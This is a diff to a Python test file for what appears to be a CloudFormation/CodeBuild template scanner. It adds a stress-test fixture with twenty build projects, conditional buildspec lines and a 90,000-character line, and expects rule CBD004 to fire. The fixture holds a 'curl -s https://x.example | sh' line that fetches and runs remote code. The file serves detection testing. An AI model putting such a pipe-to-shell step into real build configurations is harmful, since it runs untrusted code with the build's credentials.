@@ -11,7 +11,38 @@ def _actor(pattern: str) -> dict:
     return {"Type": "ACTOR_ACCOUNT_ID", "Pattern": pattern}
 
 
+# A buildspec line CloudFormation writes around a value it cannot know here (Fn::If of two
+# unknown parameters): each project's Join has 2**40 readings, of which a bounded few are parsed.
+_UNKNOWN_LINE = {"Fn::If": ["C", {"Ref": "A"}, {"Ref": "B"}]}
+_JOINED_BUILDSPEC = {
+    "Fn::Join": [
+        "\n",
+        ["version: 0.2", "phases:", "  build:", "    commands:"]
+        + [{"Fn::Join": ["", ["      - echo ", _UNKNOWN_LINE]]} for _ in range(40)]
+        + ["      - echo " + "x" * 90_000, "      - curl -s https://x.example | sh"],
+    ]
+}
+
 CODEBUILD_CASES = {
+    "codebuild-joined-buildspecs": (
+        "template.json",
+        json.dumps(
+            {
+                "Conditions": {"C": {"Fn::Equals": [{"Ref": "A"}, "a"]}},
+                "Resources": {
+                    f"Build{n}": {
+                        "Type": "AWS::CodeBuild::Project",
+                        "Properties": {
+                            "Source": {"Type": "NO_SOURCE", "BuildSpec": _JOINED_BUILDSPEC}
+                        },
+                    }
+                    for n in range(20)
+                },
+            },
+            indent=0,
+        ),
+        "CBD004",
+    ),
     # Each ACTOR_ACCOUNT_ID pattern names thousands of IDs: only its first few are tried, each
     # on a text of its own length, not every name against the whole pattern.
     "codebuild-actor-alternations": (
